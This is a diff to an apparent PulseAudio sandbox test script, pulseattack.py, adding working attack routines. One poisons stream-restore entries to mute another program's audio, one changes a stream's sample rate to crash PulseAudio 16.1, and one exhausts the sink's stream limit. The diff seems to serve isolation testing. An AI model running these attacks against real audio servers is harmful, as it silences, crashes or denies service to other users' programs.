@@ -13,6 +13,11 @@ judges by what the user's server did.
                                     a word; how many the server took, how soon the silent one
                                     was closed
     pulseattack.py direct INDEX     a record stream "directly on" another program's sink input
+    pulseattack.py restore NAME     mute and turn down what the server saves for the program
+                                    named NAME (its next stream starts that way)
+    pulseattack.py rate             change the rate of streams made without a variable rate
+    pulseattack.py streams N        hold up to N streams on each of four connections, until
+                                    /root/data/go exists (their count in /root/data/held)
 """
 
 from __future__ import annotations
@@ -33,6 +38,8 @@ GET_SERVER_INFO = 20
 SET_SINK_INPUT_VOLUME, SET_SINK_INPUT_MUTE = 37, 69
 SET_PLAYBACK_STREAM_BUFFER_ATTR = 72
 UPDATE_PLAYBACK_STREAM_PROPLIST, UPDATE_CLIENT_PROPLIST = 81, 82
+REMOVE_PLAYBACK_STREAM_PROPLIST = 84
+UPDATE_PLAYBACK_STREAM_SAMPLE_RATE, UPDATE_RECORD_STREAM_SAMPLE_RATE = 74, 75
 S16LE, U8 = 3, 0
 
 
@@ -82,7 +89,7 @@ class Closed(Exception):
 
 
 class Client:
-    def __init__(self, authenticate: bool = True, name: str = "attack") -> None:
+    def __init__(self, authenticate: bool = True, name: str | None = "attack") -> None:
         path = os.environ["PULSE_SERVER"].removeprefix("unix:")
         self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         self.sock.settimeout(5)
@@ -90,7 +97,8 @@ class Client:
         self.tag = 0
         if authenticate:
             self.request(AUTH, u32(VERSION), b"x" + struct.pack(">I", 256) + bytes(256))
-            self.request(SET_CLIENT_NAME, proplist({"application.name": name}))
+            if name is not None:
+                self.request(SET_CLIENT_NAME, proplist({"application.name": name}))
 
     def next_tag(self) -> int:
         self.tag += 1
@@ -312,12 +320,109 @@ def direct(index: int) -> dict[str, object]:
     return {"direct_on_input": kind, "alive": client.alive()}
 
 
+def restore(name: str) -> dict[str, object]:
+    """module-stream-restore saves a stream's volume and mute under a name the stream's
+    properties give (its role, application id or name): the sandbox's own stream, filed under
+    another program's name, turned down and muted, would start that program's next stream so."""
+    results: dict[str, object] = {}
+
+    def silence(client: Client, own: tuple[int, int]) -> object:
+        return [client.request(SET_SINK_INPUT_VOLUME, u32(own[1]), cvolume(2, 0x0800))[0],
+                client.request(SET_SINK_INPUT_MUTE, u32(own[1]), boolean(True))[0]]
+
+    def replaced() -> object:  # its properties replaced wholesale (SET mode) by the name
+        client = Client()
+        own = client.create_playback()
+        if own is None:
+            return "no stream"
+        client.request(UPDATE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), u32(0),
+                       proplist({"application.name": name}))
+        return silence(client, own)
+
+    def unnamed() -> object:  # a client that never names itself
+        client = Client(name=None)
+        own = client.create_playback(properties={"application.name": name})
+        return "no stream" if own is None else silence(client, own)
+
+    def removed() -> object:  # the identity removed from the stream
+        client = Client(name=name)
+        own = client.create_playback()
+        if own is None:
+            return "no stream"
+        client.request(REMOVE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), text("application.id"),
+                       text("module-stream-restore.id"), text(None))
+        return silence(client, own)
+
+    def direct_id() -> object:  # the restore key itself, and a role shared with others
+        client = Client()
+        own = client.create_playback(properties={
+            "module-stream-restore.id": f"sink-input-by-application-name:{name}",
+            "media.role": "music", "application.id": name})
+        return "no stream" if own is None else silence(client, own)
+
+    for label, action in (("replaced", replaced), ("unnamed", unnamed),
+                          ("removed", removed), ("direct_id", direct_id)):
+        attempt(results, label, action)
+        time.sleep(0.3)
+    return results
+
+
+def rate() -> dict[str, object]:
+    """A new rate for a stream made without a variable one: PulseAudio 16.1 aborts in its
+    resampler (playback: s16le mono on a stereo sink of the same rate)."""
+    results: dict[str, object] = {}
+
+    def playback() -> object:
+        client = Client()
+        own = client.create_playback(channels=1)
+        if own is None:
+            return "no stream"
+        return [client.request(UPDATE_PLAYBACK_STREAM_SAMPLE_RATE, u32(own[0]),
+                               u32(22050))[0], client.alive()]
+
+    attempt(results, "playback", playback)
+    attempt(results, "server_alive_after", lambda: Client().alive())
+    return results
+
+
+def streams(count: int) -> dict[str, object]:
+    """Streams held at once, paused, on four connections: a sink takes 256 in all."""
+    held = 0
+    clients = []
+    for _ in range(4):
+        try:
+            client = Client()
+        except (OSError, Closed):
+            continue
+        clients.append(client)
+        for _ in range(count):
+            try:
+                args = client.create_args()
+                # Paused: the sixth value is "corked".
+                corked = args.replace(u32(INVALID) + boolean(False) + u32(INVALID),
+                                      u32(INVALID) + boolean(True) + u32(INVALID), 1)
+                kind, _ = client.request(CREATE_PLAYBACK_STREAM, corked)
+            except (OSError, Closed):
+                break
+            if kind == "reply":
+                held += 1
+    # Held until the test, which plays meanwhile, says it is done.
+    with open("/root/data/held", "w") as mark:
+        mark.write(str(held))
+    deadline = time.monotonic() + 60
+    while not os.path.exists("/root/data/go") and time.monotonic() < deadline:
+        time.sleep(0.05)
+    return {"held": held, "connections": len(clients)}
+
+
 def main() -> None:
     attack, *args = sys.argv[1:]
     found = {"victim": lambda: victim(int(args[0])), "misaligned": misaligned,
              "properties": lambda: properties(args[0]),
              "connections": lambda: connections(int(args[0])),
-             "direct": lambda: direct(int(args[0]))}[attack]()
+             "direct": lambda: direct(int(args[0])),
+             "restore": lambda: restore(args[0]), "rate": rate,
+             "streams": lambda: streams(int(args[0]))}[attack]()
     print(repr(found), flush=True)
 
 
